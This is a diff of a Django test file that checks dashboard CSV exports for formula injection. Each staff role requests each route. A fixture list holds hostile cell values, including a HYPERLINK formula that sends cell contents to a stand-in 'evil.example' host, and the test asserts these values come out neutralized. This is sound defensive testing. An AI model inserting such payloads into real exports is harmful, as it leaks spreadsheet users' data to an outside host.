@@ -6,7 +6,7 @@ import io
 from datetime import date
 
 import pytest
-from django.urls import URLPattern, URLResolver, get_resolver
+from django.test import Client
 
 from access.roles import Role
 from dashboard.charts import CHARTS
@@ -16,32 +16,22 @@ from disposal.processors import save_processor
 from leads import services
 from leads.models import CaptureMethod
 from runtime.csv_writer import FORMULA_STARTS
+from tests.url_walk import fill as _fill
+from tests.url_walk import routes as _routes
 
 pytestmark = pytest.mark.django_db(databases="__all__")
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+SUM(1,2)", "-2+3", "@cmd", "\tx=1"]
 
 
-def _csv_routes(patterns=None, prefix="") -> list[tuple[str, object]]:
-    """Every route of the project that answers a .csv file, walked from the URLconf."""
-    found = []
-    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
-        route = prefix + str(pattern.pattern)
-        if isinstance(pattern, URLResolver):
-            found += _csv_routes(pattern.url_patterns, route)
-        elif isinstance(pattern, URLPattern) and ".csv" in route:
-            found.append((route, pattern))
-    return found
-
-
-def _urls() -> list[str]:
+def _dashboard_urls(customer_id) -> list[str]:
+    """Every dashboard route, walked from the URLconf; a chart route once per chart."""
     urls = []
-    for route, _pattern in _csv_routes():
+    for route in _routes("dashboard"):
         if "<slug:slug>" in route:
-            urls += ["/" + route.replace("<slug:slug>", slug) for slug in CHARTS]
+            urls += [_fill(route.replace("<slug:slug>", slug), customer_id) for slug in CHARTS]
         else:
-            assert "<" not in route, f"a CSV route this test cannot fill: {route}"
-            urls.append("/" + route)
+            urls.append(_fill(route, customer_id))
     return urls
 
 
@@ -69,31 +59,27 @@ def formula_data():
     )
 
 
-def test_the_walk_finds_every_csv_download():
-    urls = _urls()
-    assert "/dashboard/privacy/records.csv" in urls
-    assert {f"/dashboard/metrics/{slug}.csv" for slug in CHARTS} <= set(urls)
-
-
-def test_no_cell_of_any_csv_download_starts_a_formula(client, make_staff, formula_data):
-    staff = {role: make_staff(role) for role in Role}
-    seen = ""
-    for url in _urls():
-        for role in Role:
-            client.force_login(staff[role], backend="django.contrib.auth.backends.ModelBackend")
+def test_no_cell_of_any_csv_download_starts_a_formula(make_staff, formula_data, customer):
+    """Every dashboard page is asked for by every role; whatever answers CSV is checked,
+    so a CSV view added later is covered without naming it here."""
+    downloads: dict[str, str] = {}
+    for role in Role:
+        client = Client()
+        client.force_login(make_staff(role), backend="django.contrib.auth.backends.ModelBackend")
+        for url in _dashboard_urls(customer.pk):
             response = client.get(url)
-            if response.status_code == 200:
-                break
-        assert response.status_code == 200, url
-        assert response["Content-Type"].startswith("text/csv")
-        assert "no-store" in response["Cache-Control"], url
-        text = response.content.decode()
-        seen += text
+            if response.status_code == 200 and response["Content-Type"].startswith("text/csv"):
+                assert "no-store" in response["Cache-Control"], url
+                downloads[url] = response.content.decode()
+    assert "/dashboard/privacy/records.csv" in downloads
+    assert {f"/dashboard/metrics/{slug}.csv" for slug in CHARTS} <= set(downloads)
+    for url, text in downloads.items():
         for row in csv.reader(io.StringIO(text)):
             starts = [cell for cell in row if cell.startswith(FORMULA_STARTS)]
             assert not starts, (url, starts)
     # The hostile values did reach the files, neutralized (carrier labels, processor names
     # and agreements in the records of processing; the lead source in its chart).
+    seen = "".join(downloads.values())
     for start in ("'=HYPERLINK", "'+SUM(1,2)", "'-2+3", "'@cmd"):
         assert start in seen
 
